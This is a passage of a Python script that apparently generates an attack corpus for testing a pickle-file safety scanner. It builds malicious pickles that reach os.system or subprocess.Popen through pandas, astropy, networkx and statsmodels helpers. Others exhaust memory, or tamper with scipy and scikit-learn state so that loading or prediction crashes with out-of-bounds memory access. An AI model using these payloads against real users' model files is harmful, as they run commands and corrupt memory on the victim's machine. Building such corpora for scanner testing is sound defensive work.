@attack("bytes_8gib.pkl", "suspicious", "budget",
        "builtins.bytes(8 GiB): a name on the safe list that allocates and zeroes 8 GiB in the "
        "loading process")
def _():
    return pk.proto(2) + pk.call(pk.glob("builtins", "bytes"), pk.integer(8 << 30)) + pk.STOP


@attack("getdag_40.pkl", "suspicious", "budget",
        "a 40-level memo DAG (2^40 logical nodes in a few hundred bytes) before os.system",
        expect=["pickle"])
def _():
    out = pk.proto(2) + pk.EMPTY_LIST + pk.put(0)
    for i in range(40):
        out += pk.get(i) + pk.get(i) + pk.TUPLE2 + pk.put(i + 1)
    return out + pk.POP + pk.system(CMD) + pk.STOP


@attack("nested_lists_200k.pkl", "suspicious", "budget",
        "200,000 nested lists before os.system", expect=["pickle"])
def _():
    n = 200000
    return pk.proto(2) + pk.EMPTY_LIST * n + pk.APPEND * (n - 1) + pk.POP + pk.system(CMD) + pk.STOP


@attack("marks_1m.pkl", "suspicious", "budget", "a million MARKs before os.system", expect=["pickle"])
def _():
    return pk.proto(2) + pk.MARK * 1000000 + pk.system(CMD) + pk.STOP


@attack("ops_1m.pkl", "suspicious", "budget",
        "a million opcodes (NONE, POP) before os.system", expect=["pickle"])
def _():
    return pk.proto(2) + (pk.NONE + pk.POP) * 500000 + pk.system(CMD) + pk.STOP


# ==== pandas: its unpickling helpers build the class they are given (SAFETY.md S-33) ========

NEW_INDEX = ("pandas.core.indexes.base", "_new_Index")
NDAB = ("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked")
CATEGORICAL = ("pandas.core.arrays.categorical", "Categorical")
# the checksum pandas 1.5's Cython writes for NDArrayBacked
NDAB_CHECKSUM = pk.integer(223698104)


@attack("pandas_new_index_popen.pkl", "dangerous", "state",
        "pandas' _new_Index(cls, d) given subprocess.Popen as the Index class: it runs "
        "cls.__new__(cls, **d)", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob(*NEW_INDEX), pk.glob("subprocess", "Popen"),
                                 pk.dct((pk.uni("args"), pk.uni(CMD)))) + pk.STOP


@attack("pandas_new_index_system_in_data.pkl", "dangerous", "state",
        "a real-looking _new_Index(Index, {'data': ...}) whose data is os.system's result",
        expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob(*NEW_INDEX), pk.glob("pandas.core.indexes.base", "Index"),
                                 pk.dct((pk.uni("data"), pk.system(CMD)), (pk.uni("name"), pk.NONE))) + pk.STOP


@attack("pandas_new_index_not_index.pkl", "suspicious", "state",
        "_new_Index given a pandas class that is no Index (Series): its constructor runs with "
        "the pickle's keyword arguments")
def _():
    return pk.proto(2) + pk.call(pk.glob(*NEW_INDEX), pk.glob("pandas.core.series", "Series"),
                                 pk.dct((pk.uni("data"), pk.lst(pk.integer(1))))) + pk.STOP


@attack("pandas_new_datetimeindex_popen.pkl", "dangerous", "state",
        "pandas' _new_DatetimeIndex(cls, d) given subprocess.Popen", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("pandas.core.indexes.datetimes", "_new_DatetimeIndex"),
                                 pk.glob("subprocess", "Popen"), pk.dct((pk.uni("args"), pk.uni(CMD)))) + pk.STOP


@attack("pandas_ndarray_backed_other_class.pkl", "dangerous", "state",
        "Cython's __pyx_unpickle_NDArrayBacked given subprocess.Popen as the array class",
        expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob(*NDAB), pk.glob("subprocess", "Popen"), NDAB_CHECKSUM,
                                 pk.NONE) + pk.STOP


@attack("pandas_categorical_state_array_interface.pkl", "dangerous", "state",
        "a Categorical whose 3-item state (dtype, codes, attributes) sets __array_interface__ "
        "(NDArrayBacked.__setstate__ setattr()s every pair): numpy reads it as an address "
        "wherever the array is used", expect=["pickle", "pickle-py"])
def _():
    cat = (pk.call(pk.glob(*NDAB), pk.glob(*CATEGORICAL), NDAB_CHECKSUM, pk.NONE)
           + pk.tup(pk.NONE, pk.NONE, pk.dct((pk.uni("__array_interface__"), ARRAY_INTERFACE))) + pk.BUILD)
    return pk.proto(2) + cat + pk.STOP


@attack("pandas_categorical_helper_state_class.pkl", "dangerous", "state",
        "the same kind of state given to the Cython helper itself: its __set_state updates "
        "__dict__ with __class__", expect=["pickle", "pickle-py"])
def _():
    state = pk.tup(pk.NONE, pk.NONE, pk.dct((pk.uni("__class__"), pk.glob("pandas.core.frame", "DataFrame"))))
    return pk.proto(2) + pk.call(pk.glob(*NDAB), pk.glob(*CATEGORICAL), NDAB_CHECKSUM, state) + pk.STOP


@attack("pandas_dataframe_state_class.pkl", "dangerous", "state",
        "a DataFrame whose state carries __class__ (NDFrame.__setstate__ object.__setattr__s "
        "every key)", expect=["pickle", "pickle-py"])
def _():
    df = (pk.glob("pandas.core.frame", "DataFrame") + pk.EMPTY_TUPLE + pk.NEWOBJ
          + pk.dct((pk.uni("_typ"), pk.uni("dataframe")), (pk.uni("__class__"), pk.glob("pandas.core.series", "Series")))
          + pk.BUILD)
    return pk.proto(2) + df + pk.STOP


@attack("pandas_block_object_values_system.pkl", "dangerous", "state",
        "a pandas block (_unpickle_block) whose object-dtype values are built by os.system",
        expect=["pickle", "pickle-py"])
def _():
    values = (pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"), pk.glob("numpy", "ndarray"),
                      pk.tup(pk.integer(0)), pk.binbytes(b"b"))
              + pk.tup(pk.integer(1), pk.tup(pk.integer(1), pk.integer(1)), np_dtype("O"), pk.NEWFALSE,
                       pk.lst(pk.system(CMD))) + pk.BUILD)
    placement = pk.call(pk.glob("builtins", "slice"), pk.integer(0), pk.integer(1), pk.integer(1))
    return pk.proto(2) + pk.call(pk.glob("pandas._libs.internals", "_unpickle_block"), values, placement,
                                 pk.integer(2)) + pk.STOP


@attack("pandas_read_pickle.pkl", "dangerous", "gadget",
        "pandas.read_pickle of a path: unpickles another file", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("pandas.io.pickle", "read_pickle"), pk.uni(MARKER)) + pk.STOP


@attack("pandas_eval.pkl", "dangerous", "gadget",
        "pandas.eval of an expression string", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("pandas", "eval"), pk.uni("1 + 1")) + pk.STOP


# ---- 5d. scipy.sparse index arrays (spec/SAFETY.md S-50) ---------------------------------------
# scipy's sparse kernels (toarray, @, sums: sparsetools) trust a matrix's index arrays.
# Restoring a matrix puts its state into __dict__ unchecked, and csr/csc/bsr_matrix((data,
# indices, indptr), shape) skips check_format's full check: an index past the shape is a
# read or write at that offset from the dense buffer (pickle.load of the first one, then
# m @ v, ends in SIGSEGV).

def _scipy_sparse(make, mutate, dump=None):
    import io
    import pickle
    import warnings
    import scipy.sparse as sp
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        m = make(sp)
    mutate(m.__dict__)
    if dump is None:
        return pickle.dumps(m, protocol=2)
    import joblib
    buf = io.BytesIO()
    joblib.dump(m, buf, compress=dump)
    return buf.getvalue()


@attack("scipy_csr_state_index_huge.pkl", "dangerous", "state",
        "a pickled csr_matrix (3, 3) whose indices hold 10**9: pickle.load restores it "
        "unchecked, m @ v reads and toarray writes at that offset (SIGSEGV)", check="loads")
def _():
    return _scipy_sparse(lambda sp: sp.csr_matrix(np.eye(3)),
                         lambda d: d.update(indices=np.array([0, 1, 10 ** 9], dtype=np.int32)))


@attack("scipy_csr_ctor_index_huge.pkl", "dangerous", "state",
        "csr_matrix((data, indices, indptr), shape) called with the index 10**9: the constructor "
        "checks lengths, not index values", check="loads")
def _():
    import pickle

    class R:
        def __reduce__(self):
            import scipy.sparse as sp
            return (sp.csr_matrix, ((np.ones(1), np.array([10 ** 9], dtype=np.int32),
                                     np.array([0, 1], dtype=np.int32)), (1, 3)))
    return pickle.dumps(R(), protocol=2)


@attack("scipy_coo_state_row_eq_shape.joblib", "dangerous", "state",
        "joblib.dump (compress 3) of a coo_matrix (3, 3) with a row index 3: toarray writes one "
        "row past the dense array", check="loads")
def _():
    return _scipy_sparse(lambda sp: sp.coo_matrix(np.eye(3)),
                         lambda d: d.update(row=np.array([0, 1, 3], dtype=np.int32)), dump=3)


@attack("scipy_csc_indptr_decreasing.pkl", "dangerous", "state",
        "a csc_matrix whose indptr decreases: the kernels take the difference as a count "
        "(tocsr, sums read before the arrays)", check="loads")
def _():
    return _scipy_sparse(lambda sp: sp.csc_matrix(np.eye(3)),
                         lambda d: d.update(indptr=np.array([0, 3, 1, 3], dtype=np.int32)))


@attack("scipy_bsr_block_index_past.pkl", "dangerous", "state",
        "a bsr_matrix (4, 6) of (2, 3) blocks with the block column 5: toarray writes blocks "
        "past the dense array", check="loads")
def _():
    return _scipy_sparse(lambda sp: sp.bsr_matrix(np.ones((4, 6)), blocksize=(2, 3)),
                         lambda d: d.update(indices=np.array([0, 5, 0, 1], dtype=np.int32)))


@attack("scipy_csr_array_indptr_short.pkl", "dangerous", "state",
        "a csr_array of 3 rows whose indptr has 2 entries: the kernels read the row pointers "
        "past its end", check="loads")
def _():
    return _scipy_sparse(lambda sp: sp.csr_array(np.eye(3)),
                         lambda d: d.update(indptr=np.array([0, 1], dtype=np.int32)))


@attack("scipy_lil_column_huge.pkl", "dangerous", "state",
        "a lil_matrix (3, 3) whose row 0 holds the column 10**8: tocsr (m @ v, toarray) builds "
        "a csr_matrix of it unchecked (SIGSEGV)", check="loads")
def _():
    def mutate(d):
        d["rows"][0] = [10 ** 8]
    return _scipy_sparse(lambda sp: sp.lil_matrix(np.eye(3)), mutate)


@attack("scipy_dia_offsets_past_data.pkl", "dangerous", "state",
        "a dia_matrix with 800 offsets for 1 row of diagonals: m @ v reads data rows past the "
        "array", check="loads")
def _():
    return _scipy_sparse(lambda sp: sp.dia_matrix(np.eye(3)),
                         lambda d: d.update(offsets=np.arange(800, dtype=np.int32) % 8))


# ---- 5e. scikit-learn tree nodes (spec/SAFETY.md S-51) -------------------------------------------
# Tree.__setstate__ and TreePredictor's plain __dict__ take nodes whose children and
# features predict follows with bounds checks off (pickle.load, then predict: SIGSEGV).

def _tree_model(mutate, hgb=False, dump=None):
    import io
    import pickle
    rs = np.random.RandomState(0)
    X = rs.rand(60, 3)
    y = (X[:, 0] > .5).astype(int)
    if hgb:
        from sklearn.ensemble import HistGradientBoostingClassifier
        m = HistGradientBoostingClassifier(max_iter=2).fit(X, y)
        p = m._predictors[0][0]
        p.nodes = p.nodes.copy()
        mutate(p.nodes)
    else:
        from sklearn.tree import DecisionTreeClassifier
        m = DecisionTreeClassifier(max_depth=2).fit(X, y)
        cls, args, st = m.tree_.__reduce__()
        st = dict(st, nodes=st["nodes"].copy())
        mutate(st["nodes"])

        class T:
            def __reduce__(self):
                return cls, args, st
        m.tree_ = T()
    if dump is None:
        return pickle.dumps(m, protocol=2)
    import joblib
    buf = io.BytesIO()
    joblib.dump(m, buf, compress=dump)
    return buf.getvalue()


@attack("sklearn_tree_feature_huge.pkl", "dangerous", "state",
        "a DecisionTreeClassifier whose root splits on feature 10**8: predict reads X at that "
        "column (SIGSEGV)", check="loads")
def _():
    return _tree_model(lambda n: n["feature"].__setitem__(0, 10 ** 8))


@attack("sklearn_tree_child_past_nodes.joblib", "dangerous", "state",
        "joblib.dump (compress 3) of a tree whose root's left child is node 10**6: predict "
        "reads nodes past the array", check="loads")
def _():
    return _tree_model(lambda n: n["left_child"].__setitem__(0, 10 ** 6), dump=3)


@attack("sklearn_hgb_feature_huge.pkl", "dangerous", "state",
        "a HistGradientBoostingClassifier whose first predictor splits on feature 10**8: "
        "predict reads X at that column (SIGSEGV)", check="loads")
def _():
    return _tree_model(lambda n: n["feature_idx"].__setitem__(0, 10 ** 8), hgb=True)


@attack("sklearn_kdtree_idx_array_huge.joblib", "dangerous", "state",
        "joblib.dump (compress 3) of a KNeighborsClassifier whose KDTree's idx_array holds "
        "10**8: predict reads data at that row (SIGSEGV)", check="loads")
def _():
    import io
    import joblib
    from sklearn.neighbors import KNeighborsClassifier
    rs = np.random.RandomState(0)
    X = rs.rand(40, 3)
    m = KNeighborsClassifier(algorithm="kd_tree").fit(X, (X[:, 0] > .5).astype(int))
    cls, args, st = m._tree.__reduce__()
    idx = st[1].copy()
    idx[0] = 10 ** 8
    st = (st[0], idx) + tuple(st[2:])

    class T:
        def __reduce__(self):
            return cls, args, st
    m._tree = T()
    buf = io.BytesIO()
    joblib.dump(m, buf, compress=3)
    return buf.getvalue()


@attack("tfidf_vocabulary_index_huge.pkl", "dangerous", "state",
        "a TfidfVectorizer whose vocabulary_ maps a word to 10**8: transform of a text holding "
        "it builds a csr_matrix with that column unchecked and multiplies it (SIGSEGV)", check="loads")
def _():
    import pickle
    from sklearn.feature_extraction.text import TfidfVectorizer
    m = TfidfVectorizer().fit(["alpha beta", "beta gamma"])
    m.vocabulary_ = dict(m.vocabulary_, gamma=10 ** 8)
    return pickle.dumps(m, protocol=2)


@attack("sklearn_mahalanobis_mat_short.pkl", "dangerous", "state",
        "a MahalanobisDistance (DistanceMetric.get_metric) restored with a vec of 1000 and a "
        "(1, 65536) mat: pairwise of 1000-feature points reads mat[:1000, :1000] (SIGSEGV)", check="loads")
def _():
    import pickle
    import sklearn.metrics._dist_metrics as dm
    m = dm.newObj(dm.MahalanobisDistance)
    m.__setstate__((2.0, np.ones(1000), np.ones((1, 65536)), None, {}))
    return pickle.dumps(m, protocol=2)


def _quad_tree(mutate, dims=2):
    import pickle
    from sklearn.neighbors._quad_tree import _QuadTree
    t = _QuadTree(2, 0)
    t.build_tree(np.random.RandomState(0).rand(10, 2).astype(np.float32))
    st = t.__reduce__()[2]
    # the cells in use, and of them only what 2 dimensions write: the rest is
    # uninitialised memory, which would make the file differ from run to run
    cells = st["cells"][:st["cell_count"]].copy()
    cells["children"][:, 4:] = -1
    for f in ("center", "barycenter", "min_bounds", "max_bounds"):
        cells[f][:, 2:] = 0
    st = dict(st, cells=cells, capacity=len(cells))
    mutate(st)

    class Q:
        def __reduce__(self):
            return _QuadTree, (dims, 0), st
    return pickle.dumps(Q(), protocol=2)


@attack("sklearn_quad_tree_child_huge.pkl", "dangerous", "state",
        "a _QuadTree whose root's first child is cell 10**9: get_cell and summarize follow it "
        "(SIGSEGV)", check="loads")
def _():
    return _quad_tree(lambda st: st["cells"]["children"][0].__setitem__(0, 10 ** 9))


@attack("sklearn_quad_tree_dims_8.pkl", "dangerous", "state",
        "a _QuadTree of 8 dimensions: build_tree writes 256 children and 8 coordinates into "
        "cells of 8 and 3 (SIGSEGV)", check="loads")
def _():
    return _quad_tree(lambda st: None, dims=8)


@attack("random_state_ctor_memmap.pkl", "dangerous", "gadget",
        "numpy.random._pickle.__randomstate_ctor(path, numpy.memmap): the helper calls its "
        "bit_generator_ctor argument, memmap opens the path read-write (S-52)")
def _():
    return pk.proto(2) + pk.call(pk.glob("numpy.random._pickle", "__randomstate_ctor"), pk.uni(MARKER),
                                 pk.glob("numpy", "memmap")) + pk.STOP


@attack("list_of_huge_range.pkl", "suspicious", "budget",
        "list(range(200_000_000)): safe names, 200 million ints (about 7 GB) filled at load (S-34)")
def _():
    rng = pk.call(pk.glob("builtins", "range"), pk.integer(200_000_000))
    return pk.proto(2) + pk.call(pk.glob("builtins", "list"), rng) + pk.STOP


@attack("pandas_read_csv_url.pkl", "dangerous", "gadget",
        "pandas.read_csv of a URL: opens a network connection", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("pandas", "read_csv"), pk.uni("http://127.0.0.1:9/x.csv")) + pk.STOP


@attack("pandas_frame_query.pkl", "dangerous", "gadget",
        "getattr(DataFrame(), 'query') called with an expression (pandas evaluates it with "
        "the caller's frames in scope)", expect=["pickle", "pickle-py"])
def _():
    df = pk.glob("pandas.core.frame", "DataFrame") + pk.EMPTY_TUPLE + pk.NEWOBJ
    return pk.proto(2) + pk.call(pk.call(pk.glob("builtins", "getattr"), df, pk.uni("query")),
                                 pk.uni("a > 1")) + pk.STOP


# ==== other libraries' models (rules_libs_gen.h): newly safe names with dangerous arguments ====

@attack("libs_astropy_unit_builder_popen.pkl", "dangerous", "state",
        "astropy's _recreate_irreducible_unit(cls, names, registered) calls cls(names): given "
        "subprocess.Popen and an argv", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("astropy.units.core", "_recreate_irreducible_unit"),
                                 pk.glob("subprocess", "Popen"), pk.lst(pk.uni("sh"), pk.uni("-c"), pk.uni(CMD)),
                                 pk.NEWFALSE) + pk.STOP


@attack("libs_networkx_graph_state_class.pkl", "dangerous", "state",
        "a networkx Graph whose state sets __class__ (a command runner's class)",
        expect=["pickle", "pickle-py"])
def _():
    g = pk.glob("networkx.classes.graph", "Graph") + pk.EMPTY_TUPLE + pk.NEWOBJ
    return pk.proto(2) + g + pk.dct((pk.uni("graph"), pk.dct()),
                                    (pk.uni("__class__"), pk.glob("subprocess", "Popen"))) + pk.BUILD + pk.STOP


@attack("libs_networkx_graph_data_system.pkl", "dangerous", "state",
        "a networkx Graph built from data that os.system returns", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("networkx.classes.graph", "Graph"), pk.system(CMD)) + pk.STOP


@attack("libs_statsmodels_ols_system_in_state.pkl", "dangerous", "state",
        "a statsmodels OLS results object whose state holds os.system's result",
        expect=["pickle", "pickle-py"])
def _():
    r = pk.glob("statsmodels.regression.linear_model", "OLSResults") + pk.EMPTY_TUPLE + pk.NEWOBJ
    return pk.proto(2) + r + pk.dct((pk.uni("params"), pk.system(CMD))) + pk.BUILD + pk.STOP


@attack("libs_nltk_data_load.pkl", "dangerous", "gadget",
        "nltk.data.load of a path: unpickles (or evaluates) another file", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("nltk.data", "load"), pk.uni("file:" + MARKER + ".pickle")) + pk.STOP


@attack("libs_gensim_unpickle.pkl", "dangerous", "gadget",
        "gensim.utils.unpickle of a path: unpickles another file", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("gensim.utils", "unpickle"), pk.uni(MARKER)) + pk.STOP


@attack("libs_networkx_read_gpickle.pkl", "dangerous", "gadget",
        "networkx.read_gpickle of a path: unpickles another file", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("networkx.readwrite.gpickle", "read_gpickle"), pk.uni(MARKER)) + pk.STOP


@attack("libs_statsmodels_load_pickle.pkl", "dangerous", "gadget",
        "statsmodels' load_pickle of a path: unpickles another file", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(2) + pk.call(pk.glob("statsmodels.iolib.smpickle", "load_pickle"), pk.uni(MARKER)) + pk.STOP


# ---- verification and output ---------------------------------------------------------------------

def executed(result, safe, check):
    """Readings in which Python did something outside the safe list."""
    out = []
    if callable(check):
        return check(result)
    for reading, r in sorted(result["readings"].items()):
        if check == "loads":
            if r["error"] is None:
                out.append(reading)
            continue
        unsafe_call = any(tuple(c[:2]) not in safe for c in r["called"])
        dunder = any(k[2].startswith("__") and k[2].endswith("__") for k in r["state"])
        unsafe_state = any(tuple(k[:2]) not in safe for k in r["state"])
        if unsafe_call or dunder or unsafe_state or r["effects"]:
            out.append(reading)
    return out


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "attacks")
    os.makedirs(outdir, exist_ok=True)
    safe = rules.safe_names()
    mains = []
    for a in ATTACKS:
        files = a["fn"]()
        if isinstance(files, bytes):
            files = {os.path.basename(a["name"]): files}
        base = os.path.join(outdir, os.path.dirname(a["name"]))
        os.makedirs(base, exist_ok=True)
        for rel, data in files.items():
            with open(os.path.join(base, rel), "wb") as f:
                f.write(data)
        mains.append(os.path.join(outdir, a["name"]))
    import pyreadings
    readings, crashed = pyreadings.run_files(sys.executable, mains, seconds=20, cwd=outdir)
    crashes = {path: status for path, status, _ in crashed}
    problems = []
    lines = []
    for a, path in zip(ATTACKS, mains):
        if path in crashes:
            # Python itself died reading it (a segfault in numpy): it ran the attack
            ex = ["crash(%d)" % crashes[path]]
        else:
            ex = executed({"readings": readings[path]}, safe, a["check"])
        missing = [r for r in a["expect"] if r not in ex and not ex[:1] == ["crash"]]
        if path in crashes:
            missing = [] if a["check"] in ("loads", "crash") else ["(Python crashed)"]
        if missing:
            errors = {k: v["error"] for k, v in readings.get(path, {}).items()}
            problems.append("%s: expected to execute in %s, executes in %s; errors: %s" % (
                a["name"], ",".join(missing), ",".join(ex) or "none", errors))
        lines.append("%s\t%s\t%s\t%s\t# %s" % (a["name"], a["verdict"], a["klass"],
                                               "yes:" + ",".join(ex) if ex else "no", a["note"]))
    with open(os.path.join(outdir, "MANIFEST"), "w") as f:
        f.write("# Attack corpus, written by tests/safety/gen_attacks.py; do not edit.\n"
                "# NAME\tMIN_VERDICT\tCLASS\tEXECUTES (readings in which Python runs it)\t# what\n")
        f.write("\n".join(lines) + "\n")
    for p in problems:
        print("gen_attacks: " + p, file=sys.stderr)
    print("gen_attacks: %d attacks, %d executed by Python, %d problems" % (
        len(ATTACKS), sum(1 for line in lines if "\tyes:" in line), len(problems)), file=sys.stderr)
    sys.exit(1 if problems else 0)


if __name__ == "__main__":
    main()
